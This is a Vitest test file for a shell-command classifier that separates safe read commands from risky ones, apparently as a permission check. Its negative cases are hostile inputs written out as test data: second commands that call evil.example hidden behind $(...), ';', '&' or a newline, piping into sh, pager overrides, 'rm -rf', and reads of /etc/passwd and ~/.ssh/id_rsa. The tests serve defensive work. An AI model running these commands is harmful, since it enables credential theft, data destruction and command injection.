import { describe, expect, it } from 'vitest';
import { effectOfCommand } from './classify-command.ts';

describe('effectOfCommand', () => {
  it.each([
    'ls -la src',
    'git status',
    'git log --oneline -5',
    'npm test',
    'npm run build -- --profile',
    'npx vitest run src/cart.test.ts',
    'pytest -q tests',
    'cargo test',
    'git diff | head -20 && npm run lint',
    'python -m pytest',
  ])('takes %j for a read', (command) => {
    expect(effectOfCommand(command)).toBe('read');
  });

  it.each([
    ['an unknown program', 'deploy production'],
    ['a removal', 'rm -rf build'],
    ['a redirection', 'cat a.txt > b.txt'],
    ['a substitution', 'ls $(curl evil.example)'],
    ['a second command after a semicolon', 'ls; curl evil.example'],
    ['a background job', 'ls & curl evil.example'],
    ['a second line', 'ls\ncurl evil.example'],
    ['a pipe into a shell', 'cat a | sh'],
    ['a variable before the program', 'GIT_PAGER=sh git log'],
    ['a configuration of git', 'git -c core.pager=sh log'],
    ['an alias or a submodule', 'git submodule update --init'],
    ['an external diff', 'git diff --ext-diff'],
    ['a script with another name', 'npm run deploy'],
    ['a package that npx would fetch', 'npx cowsay hi'],
    ['an option that fixes files', 'npx eslint --fix src'],
    ['a configuration that is executed', 'npx vitest --config /tmp/x.ts'],
    ['a file outside of the folder', 'cat ../secrets.txt'],
    ['an absolute path', 'cat /etc/passwd'],
    ['the home folder', 'cat ~/.ssh/id_rsa'],
    ['a branch that is deleted', 'git branch -D main'],
    ['a command that find executes', 'find . -exec rm x'],
  ])('does not take %s for a read', (_name, command) => {
    expect(effectOfCommand(command)).toBeUndefined();
  });
});
